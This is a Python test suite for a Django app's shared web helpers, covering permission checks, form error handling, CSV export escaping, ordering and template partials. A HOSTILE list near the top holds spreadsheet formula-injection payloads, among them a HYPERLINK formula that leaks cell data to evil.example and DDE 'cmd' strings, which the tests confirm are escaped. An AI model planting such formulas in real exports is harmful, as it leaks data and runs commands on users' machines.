"""The web helpers every app shares (core.web, core.api, core.filters, the pagination and form partials)."""

import csv
import io
import random
from decimal import Decimal

import pytest
from django import forms
from django.contrib.auth.models import AnonymousUser
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.paginator import Paginator
from django.template.loader import render_to_string
from django.test import RequestFactory
from rest_framework.request import Request

from core.errors import ApplicationError, StaleObjectError
from core.filters import NullsLastOrderingFilter
from core.web import COPY_CHUNK_ROWS, CSV_CHUNK_ROWS, NOT_ALLOWED, add_service_error, csv_cell, csv_response, require
from improvements.models import Initiative, Issue
from tests import factories

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


# --- require -----------------------------------------------------------------------------------


def test_require_lets_a_user_with_the_permission_through(manager_user):
    require(manager_user, "owners.manage_organisation")


def test_require_refuses_with_the_message_given(viewer_user):
    with pytest.raises(PermissionDenied) as refused:
        require(viewer_user, "owners.manage_organisation", message="Managers only.")

    assert str(refused.value) == "Managers only."


def test_require_refuses_with_a_general_message_by_default():
    with pytest.raises(PermissionDenied) as refused:
        require(AnonymousUser(), "owners.manage_organisation")

    assert str(refused.value) == NOT_ALLOWED


def test_require_checks_the_permission_on_the_object(journey, owner_user):
    other = factories.JourneyFactory(slug="other")

    require(owner_user, "journeys.change_journey", journey)
    with pytest.raises(PermissionDenied):
        require(owner_user, "journeys.change_journey", other)


def test_a_refusal_in_the_api_answers_403_with_its_message(api_client, viewer_user, journey):
    api_client.force_authenticate(viewer_user)

    issue = api_client.post(
        f"/api/v1/issues/{factories.IssueFactory(journey=journey).pk}/transition/", {"status": "closed"}, format="json"
    )
    function = api_client.post("/api/v1/functions/", {"name": "Billing"}, format="json")

    assert issue.status_code == 403
    assert issue.json() == {"detail": "Your role on this journey does not allow this."}
    assert function.status_code == 403
    assert function.json() == {"detail": "You do not have permission to perform this action."}


def test_a_refusal_in_a_page_shows_its_message(client, viewer_user):
    client.force_login(viewer_user)
    incentive = factories.IncentiveFactory()

    response = client.get(f"/incentives/{incentive.pk}/history/")

    assert response.status_code == 403
    assert "visible to managers" in response.content.decode()


# --- add_service_error -------------------------------------------------------------------------


class _Form(forms.Form):
    title = forms.CharField(required=False)
    version = forms.IntegerField(widget=forms.HiddenInput, required=False)


def _bound(**data) -> _Form:
    form = _Form({"title": "Old", "version": 3, **data})
    assert form.is_valid()
    return form


def test_a_validation_error_by_field_lands_on_its_field():
    form = _bound()

    add_service_error(form, ValidationError({"title": ["Too vague."], "nowhere": ["Not a field."]}))

    assert form.errors["title"] == ["Too vague."]
    assert form.non_field_errors() == ["Not a field."]


def test_a_validation_error_with_a_list_lands_on_top():
    form = _bound()

    add_service_error(form, ValidationError(["First.", "Second."]))

    assert form.non_field_errors() == ["First.", "Second."]
    assert "title" not in form.errors


def test_an_error_about_a_hidden_field_lands_on_top_where_it_can_be_seen():
    form = _bound()

    add_service_error(form, ValidationError({"version": ["Must be positive."]}))

    assert form.non_field_errors() == ["Must be positive."]
    assert "version" not in form.errors


def test_an_application_error_lands_on_the_field_it_names_or_on_top():
    named, unnamed = _bound(), _bound()

    add_service_error(named, ApplicationError("Taken.", field="title"))
    add_service_error(unnamed, ApplicationError("Not now."))

    assert named.errors["title"] == ["Taken."]
    assert unnamed.non_field_errors() == ["Not now."]


def test_a_stale_object_keeps_the_values_and_moves_the_form_to_the_current_version():
    form = _bound(title="Mine")

    add_service_error(form, StaleObjectError("Changed by someone else.", extra={"current_version": 7}))

    assert form.non_field_errors()[0].startswith("Changed by someone else. Your values are kept below")
    assert form.data["version"] == 7
    assert form.data["title"] == "Mine"


def test_a_stale_object_on_a_form_without_a_version_is_an_ordinary_refusal():
    class Plain(forms.Form):
        title = forms.CharField()

    form = Plain({"title": "x"})
    form.is_valid()

    add_service_error(form, StaleObjectError("Changed by someone else.", extra={"current_version": 7}))

    assert form.non_field_errors() == ["Changed by someone else."]


def test_any_other_exception_is_not_swallowed():
    form = _bound()

    with pytest.raises(KeyError):
        add_service_error(form, KeyError("bug"))
    assert not form.errors


# --- CSV ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_starting_like_a_formula_is_quoted(value):
    assert csv_cell(value) == f"'{value}"


@pytest.mark.parametrize(
    ("value", "cell"),
    [(None, ""), ("", ""), (-3, "-3"), ("-0.25", "-0.25"), ("+44", "+44"), ("Plain text", "Plain text"), (4.5, "4.5")],
)
def test_plain_values_and_numbers_are_left_alone(value, cell):
    assert csv_cell(value) == cell


def test_csv_response_streams_a_download():
    response = csv_response("x.csv", ["a", "b"], iter([["=1", None], [2, "ok"]]))

    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert _csv(response) == [["a", "b"], ["'=1", ""], ["2", "ok"]]


def _cell_by_cell(header, rows) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerows([[csv_cell(value) for value in row] for row in [header, *rows]])
    return buffer.getvalue()


PLAIN_VALUES = [
    None,
    "",
    0,
    3,
    4.5,
    Decimal("2.50"),
    "plain",
    "a, b",
    'say "hi"',
    "two\nlines",
    "2026-03-01T09:30:00-05:00",
]


def test_the_fast_path_writes_the_same_bytes_as_cell_by_cell():
    randomness = random.Random(20261202)
    rows = [[randomness.choice(PLAIN_VALUES) for _column in range(6)] for _row in range(3 * CSV_CHUNK_ROWS + 7)]

    written = b"".join(csv_response("x.csv", ["a", "b", "c", "d", "e", "f"], iter(rows)).streaming_content).decode()

    assert written == _cell_by_cell(["a", "b", "c", "d", "e", "f"], rows)


@pytest.mark.parametrize("column", [0, 1, 2])
@pytest.mark.parametrize("value", HOSTILE + ["-x", "=1", "@a"])
def test_one_hostile_cell_in_a_large_export_is_escaped_wherever_it_is(value, column):
    rows = [[f"id-{index}", "2026-03-01T09:30:00+00:00", index] for index in range(2 * CSV_CHUNK_ROWS + 10)]
    hostile_row = CSV_CHUNK_ROWS + 17
    rows[hostile_row][column] = value

    written = _csv(csv_response("x.csv", ["id", "at", "n"], iter(rows)))

    assert written[hostile_row + 1][column] == f"'{value}"
    assert written[1 : hostile_row + 1] == [[str(cell) for cell in row] for row in rows[:hostile_row]]
    assert len(written) == len(rows) + 1


def test_a_queryset_of_text_is_escaped_as_cell_by_cell(journey):
    # On PostgreSQL the database writes this CSV (COPY, escaping in SQL); elsewhere the C writer does.
    for value in [*HOSTILE, "-3", "-0.25", "plain, with comma", 'a "quote"']:
        factories.IssueFactory(journey=journey, title=value, symptom="")
    queryset = Issue.objects.order_by("pk").values_list("title", "symptom")

    written = _csv(csv_response("x.csv", ["title", "symptom"], queryset))

    assert written == [["title", "symptom"], *([csv_cell(title), ""] for title, _symptom in queryset)]
    assert written[1][0] == "'" + HOSTILE[0]


def test_a_large_queryset_of_text_is_written_whole_and_escaped_in_chunks(journey):
    # more rows than one chunk of the COPY path (COPY_CHUNK_ROWS), with hostile titles at chunk edges and
    # first characters that are not formula leaders (empty, multibyte, a leader in the middle)
    titles = [f"issue {index}" for index in range(2 * COPY_CHUNK_ROWS + 3)]
    for index, value in zip((0, COPY_CHUNK_ROWS - 1, COPY_CHUNK_ROWS, 2 * COPY_CHUNK_ROWS + 2), HOSTILE, strict=False):
        titles[index] = value
    titles[5:9] = ["", "\u00e9=1", "a=1", "'=1"]
    person = factories.PersonFactory()
    Issue.objects.bulk_create(
        [factories.IssueFactory.build(journey=journey, reported_by=person, title=title) for title in titles]
    )
    queryset = Issue.objects.order_by("pk").values_list("title")

    written = b"".join(csv_response("x.csv", ["title"], queryset).streaming_content).decode()

    assert list(csv.reader(io.StringIO(written))) == [["title"], *([csv_cell(title)] for title in titles)]
    assert written.count("'=HYPERLINK") == 1


def test_negative_numbers_stay_numbers_next_to_text():
    assert _csv(csv_response("x.csv", ["a", "b"], [[-3, "-0.25"], ["-", "ok"]])) == [
        ["a", "b"],
        ["-3", "-0.25"],
        ["'-", "ok"],
    ]


def test_the_issue_export_quotes_hostile_cells(client, viewer_user, journey):
    for value in HOSTILE:
        factories.IssueFactory(journey=journey, title=value, symptom=value)
    client.force_login(viewer_user)

    rows = _csv(client.get("/issues/export.csv"))

    header, body = rows[0], rows[1:]
    titles = {row[header.index("title")] for row in body}
    symptoms = {row[header.index("symptom")] for row in body}
    assert titles == symptoms == {f"'{value}" for value in HOSTILE}


def test_the_initiative_export_quotes_hostile_cells(client, viewer_user, journey):
    for value in HOSTILE:
        factories.InitiativeFactory(journey=journey, title=value, lead=factories.PersonFactory(name=value))
    client.force_login(viewer_user)

    rows = _csv(client.get("/initiatives/export.csv"))

    header, body = rows[0], rows[1:]
    assert len(body) == Initiative.objects.count() == len(HOSTILE)
    assert {row[header.index("title")] for row in body} == {f"'{value}" for value in HOSTILE}
    assert {row[header.index("lead")] for row in body} == {f"'{value}" for value in HOSTILE}
    assert {row[header.index("effort_person_days")] for row in body} == {"10.0"}


def test_an_owners_export_quotes_hostile_cells(client, viewer_user):
    for index, value in enumerate(HOSTILE):
        factories.PersonFactory(name=value, title=value, email=f"hostile{index}@example.com")
    client.force_login(viewer_user)

    rows = _csv(client.get("/people/", {"format": "csv"}))

    cells = {cell for row in rows[1:] for cell in row}
    assert {f"'{value}" for value in HOSTILE} <= cells
    assert not cells & set(HOSTILE)


# --- NullsLastOrderingFilter -------------------------------------------------------------------


class _InitiativeOrdering:
    ordering_fields = ["effort", "due_date"]


@pytest.mark.parametrize("term", ["effort", "-effort"])
def test_ordering_puts_rows_without_a_value_last_in_both_directions(journey, term):
    small = factories.InitiativeFactory(journey=journey, effort=2)
    unknown = factories.InitiativeFactory(journey=journey, effort=None)
    large = factories.InitiativeFactory(journey=journey, effort=9)
    request = _drf_request({"ordering": term})

    ordered = NullsLastOrderingFilter().filter_queryset(request, Initiative.objects.all(), _InitiativeOrdering())

    expected = [small, large] if term == "effort" else [large, small]
    assert list(ordered) == [*expected, unknown]


def test_ordering_breaks_ties_by_primary_key(journey):
    first, second = (factories.InitiativeFactory(journey=journey, effort=5) for _ in range(2))
    request = _drf_request({"ordering": "-effort"})

    ordered = NullsLastOrderingFilter().filter_queryset(request, Initiative.objects.all(), _InitiativeOrdering())

    assert list(ordered) == [first, second]


def test_ordering_without_a_request_term_leaves_the_queryset_alone(journey):
    queryset = Initiative.objects.order_by("-id")

    assert NullsLastOrderingFilter().filter_queryset(_drf_request({}), queryset, _InitiativeOrdering()) is queryset


def _drf_request(params):
    return Request(RequestFactory().get("/", params))


# --- the shared partials -----------------------------------------------------------------------


def test_the_pagination_partial_keeps_the_filters_and_says_where_it_is(journey):
    page = Paginator(list(range(120)), 50).get_page(2)
    request = RequestFactory().get("/issues/", {"severity": "4", "page": "2"})

    html = render_to_string("partials/pagination.html", {"page": page, "request": request})

    assert "Page 2 of 3" in html
    assert 'href="?severity=4&amp;page=1">Previous</a>' in html
    assert 'href="?severity=4&amp;page=3">Next</a>' in html


def test_the_pagination_partial_is_silent_on_a_single_page():
    page = Paginator([1, 2], 50).get_page(1)

    html = render_to_string("partials/pagination.html", {"page": page, "request": RequestFactory().get("/")})

    assert "pagination" not in html
    assert not html.strip()


def test_the_form_partial_shows_errors_labels_help_and_hidden_fields():
    class Form(forms.Form):
        title = forms.CharField(help_text="A short name.")
        urgent = forms.BooleanField(required=False)
        kinds = forms.MultipleChoiceField(choices=[("a", "A")], widget=forms.CheckboxSelectMultiple)
        version = forms.IntegerField(widget=forms.HiddenInput)

    form = Form({"version": "x"})
    form.is_valid()
    form.add_error(None, "Something is off.")

    html = render_to_string("partials/form_fields.html", {"form": form})

    assert '<div class="form-errors" role="alert"><ul class="errorlist nonfield"><li>Something is off.' in html
    assert '<label for="id_title">Title:</label>' in html
    assert '<span class="helptext" id="id_title_helptext">A short name.</span>' in html
    assert '<label for="id_urgent"><input type="checkbox" name="urgent"' in html
    assert '<legend>Kinds <span class="muted small">(required)</span></legend>' in html
    assert 'type="hidden" name="version"' in html
    assert "Enter a whole number." in html
    assert html.count("This field is required.") == 2
